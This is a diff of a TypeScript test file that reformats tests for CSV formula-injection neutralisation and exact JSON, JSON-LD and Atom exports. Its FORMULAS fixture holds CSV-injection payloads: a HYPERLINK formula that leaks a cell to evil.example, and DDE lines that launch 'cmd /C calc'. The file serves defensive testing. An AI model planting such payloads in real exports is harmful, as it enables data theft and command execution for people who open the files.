@@ -14,7 +14,15 @@ import { neutraliseFormula, recoverCell } from "@/lib/export/csv";
 import { bodyText, seedOpenDataFixture } from "@/lib/export/testing";
 
 const ORIGIN = "http://tracker.test";
-const FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "'=already quoted"];
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "+1+cmd|' /C calc'!A0",
+  "-2+3",
+  "\t=1+1",
+  "\r=1+1",
+  "'=already quoted",
+];
 
 describe("neutraliseFormula", () => {
   it("prefixes every cell a spreadsheet would evaluate, and quotes, with one quote", () => {
@@ -40,7 +48,11 @@ describe("the exports with formulas in analysts' text", () => {
   beforeAll(async () => {
     const fixture = await seedOpenDataFixture();
     statementId = fixture.trickyId;
-    const statement = await db.statement.update({ where: { id: statementId }, data: { text: FORMULAS[0]!, context: FORMULAS[1]! }, select: { speakerId: true } });
+    const statement = await db.statement.update({
+      where: { id: statementId },
+      data: { text: FORMULAS[0]!, context: FORMULAS[1]! },
+      select: { speakerId: true },
+    });
     await db.person.update({ where: { id: statement.speakerId }, data: { name: FORMULAS[2]! } });
   });
 
@@ -56,7 +68,9 @@ describe("the exports with formulas in analysts' text", () => {
   });
 
   it("keeps them exact in JSON, JSON-LD and Atom", async () => {
-    const json = JSON.parse(await bodyText(jsonGET(new Request(`${ORIGIN}/export/statements.json`)))) as { statements: { id: number; text: string; context: string }[] };
+    const json = JSON.parse(await bodyText(jsonGET(new Request(`${ORIGIN}/export/statements.json`)))) as {
+      statements: { id: number; text: string; context: string }[];
+    };
     const statement = json.statements.find((s) => s.id === statementId)!;
     expect(statement.text).toBe(FORMULAS[0]);
     expect(statement.context).toBe(FORMULAS[1]);
